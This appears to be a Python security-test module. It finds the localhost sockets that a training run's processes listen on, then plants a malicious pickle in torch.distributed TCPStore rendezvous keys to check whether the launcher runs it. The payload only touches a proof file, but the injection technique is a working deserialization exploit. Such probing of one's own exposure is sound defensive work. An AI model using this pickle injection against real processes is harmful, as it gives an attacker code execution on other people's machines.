"""Attacks on the processes of a run, from outside: what listens, and what a stranger can make of it."""

import base64
import pickle
import threading
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch

LOOPBACK = {"0100007F", "00000000000000000000000001000000"}  # 127.0.0.1 and ::1, as /proc/net writes them


class Command:
    """Unpickling this writes a file."""

    def __init__(self, proof: Path):
        self.proof = proof

    def __reduce__(self):
        return Path.touch, (self.proof,)


def with_descendants(pid: int) -> list[int]:
    children = []
    with suppress(FileNotFoundError, ProcessLookupError):  # a thread or a process may end meanwhile
        for task in Path(f"/proc/{pid}/task").iterdir():
            with suppress(FileNotFoundError, ProcessLookupError):
                children += map(int, (task / "children").read_text().split())
    return [pid, *(found for child in children for found in with_descendants(child))]


def listening(pid: int) -> set[tuple[str, int]]:
    """(address, port) of the sockets on which a process and its descendants listen."""
    inodes = set()
    for process in with_descendants(pid):
        with suppress(FileNotFoundError, ProcessLookupError):
            for descriptor in Path(f"/proc/{process}/fd").iterdir():
                with suppress(FileNotFoundError):  # a run opens and closes files all the time
                    target = str(descriptor.readlink())
                    if target.startswith("socket:["):
                        inodes.add(target[len("socket:[") : -1])
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            address, port = fields[1].split(":")
            if fields[3] == "0A" and fields[9] in inodes:
                found.add((address, int(port, 16)))
    return found


def attack(ports: set[int], proof: Path, seconds: float) -> list[int]:
    """Put a pickle that runs a command into torch's key-value stores among some ports; returns the ports of stores."""
    content, stores = base64.b64encode(pickle.dumps(Command(proof))), []

    def put(port: int) -> None:
        try:
            store = torch.distributed.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=2))
        except RuntimeError:  # no store
            return
        stores.append(port)
        for key in ("torch.rendezvous.sparse-rl", "/torch.rendezvous.sparse-rl"):  # where torch's launcher looks
            store.set(key, content)

    threads = [threading.Thread(target=put, args=(port,), daemon=True) for port in ports]  # some never get an answer
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 3
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()))
    deadline = time.monotonic() + seconds * bool(stores)
    while time.monotonic() < deadline and not proof.exists():
        time.sleep(0.2)
    return stores
